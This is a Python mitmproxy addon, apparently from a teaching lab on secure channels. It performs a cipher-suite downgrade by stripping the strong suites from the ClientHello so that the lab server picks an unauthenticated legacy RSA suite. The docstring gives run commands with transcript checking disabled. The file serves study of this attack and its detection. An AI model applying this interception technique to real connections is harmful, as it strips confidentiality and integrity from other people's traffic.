"""downgrade: strip the strong suites from the ClientHello, so the server picks the legacy one.

Both sides support AES-GCM and ECDHE, but the server only sees what the ClientHello offers. Removing the
strong offers leaves RSA key transport with AES-CTR and no MAC: no forward secrecy, no integrity. The
Finished MACs cover the ClientHello as the client sent it, so `transcript` notices (seed 001 §5.2.3 g).

    mitmdump -s addons/downgrade.py --mode reverse:tcp://127.0.0.1:4433@4434 --set lab_state_dir=state
    mitmlab client --connect 127.0.0.1:4434 --no-transcript balance   # suite RSA_AES128_CTR
"""

from mitmproxy import tcp

from lab import events
from lab.channel.frames import Frame, FrameType
from lab.channel.messages import ClientHello, ServerHello
from lab.channel.suites import KeyExchange
from lab.mitm.attack import FrameAttack
from lab.mitm.wire import flow_wire


class Downgrade(FrameAttack):
    attack = "downgrade"

    def on_frame(self, flow: tcp.TCPFlow, from_client: bool, frame: Frame) -> list[bytes]:
        view = flow_wire(flow).view
        hello = view.client_hello
        handshake = frame.type == FrameType.HANDSHAKE  # a record's body may start with any byte
        if (
            from_client
            and handshake
            and hello is not None
            and frame.body[:1] == bytes([ClientHello.msg_type])
        ):
            legacy = tuple(
                s for s in hello.suites if s.key_exchange is KeyExchange.RSA and not s.record.authenticates
            )
            if not legacy or len(legacy) == len(hello.suites):
                self.evidence.failed(flow, "the ClientHello offers nothing stronger than the legacy suites")
                return [frame.encode()]
            stripped = ClientHello(hello.random, hello.features, tuple(s.code for s in legacy))
            self.evidence.changed(
                flow, "offered suites", before=[s.name for s in hello.suites], after=[s.name for s in legacy]
            )
            return [Frame(frame.type, stripped.encode()).encode()]
        if not from_client and handshake and frame.body[:1] == bytes([ServerHello.msg_type]) and view.suite:
            self.evidence.record(flow, events.Negotiated(suite_chosen=view.suite.name))
        return [frame.encode()]


addons = [Downgrade()]
